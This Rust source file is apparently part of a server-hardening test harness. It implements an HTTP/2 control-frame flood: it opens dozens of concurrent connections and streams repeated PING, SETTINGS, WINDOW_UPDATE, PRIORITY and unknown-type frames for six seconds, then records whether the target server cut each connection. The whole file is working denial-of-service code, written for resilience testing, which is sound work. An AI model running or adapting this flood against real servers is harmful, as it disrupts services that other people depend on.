//! Frames of HTTP/2 that belong to no request.

use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use super::{Attacking, add_one};
use crate::Random;
use crate::hostile::field::Field;
use crate::hostile::report::Endings;
use crate::hostile::wire::Ending;

/// The beginning of a connection, with the client's settings.
const BEGINNING: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

const FRAMES: [&[u8]; 5] = [
    // PING, SETTINGS, WINDOW_UPDATE, PRIORITY, and one of an unknown type.
    b"\0\0\x08\x06\0\0\0\0\x0012345678",
    b"\0\0\0\x04\0\0\0\0\0",
    b"\0\0\x04\x08\0\0\0\0\0\0\0\0\x01",
    b"\0\0\x05\x02\0\0\0\0\x01\0\0\0\0\x10",
    b"\0\0\x04\x77\0\0\0\0\0abcd",
];

/// How long a connection goes on, if it may.
const LONG: Duration = Duration::from_secs(6);

pub(super) fn flood(field: &Field, _: Random) -> Attacking<'_> {
    Box::pin(async move {
        let mut sending = JoinSet::new();
        for frame in FRAMES.iter().cycle().take(field.many(80)) {
            let (public, many) = (field.public, frame.repeat(16 * 1024 / frame.len()));
            sending.spawn(async move {
                let Ok(stream) = TcpStream::connect(public).await else {
                    return Ending::Closed;
                };
                let (mut read, mut write) = stream.into_split();
                let reading = tokio::spawn(async move {
                    tokio::io::copy(&mut read, &mut tokio::io::sink())
                        .await
                        .ok();
                });
                let writing = async {
                    let mut sent = write.write_all(BEGINNING).await;
                    while sent.is_ok() {
                        sent = write.write_all(&many).await;
                    }
                };
                let ended = tokio::time::timeout(LONG, writing).await;
                reading.abort();
                match ended {
                    Ok(()) => Ending::Closed,
                    // It took all that came.
                    Err(_) => Ending::NoEnd,
                }
            });
        }
        let mut endings = Endings::new();
        while let Some(ended) = sending.join_next().await {
            add_one(&mut endings, ended.unwrap_or(Ending::NoEnd));
        }
        endings
    })
}
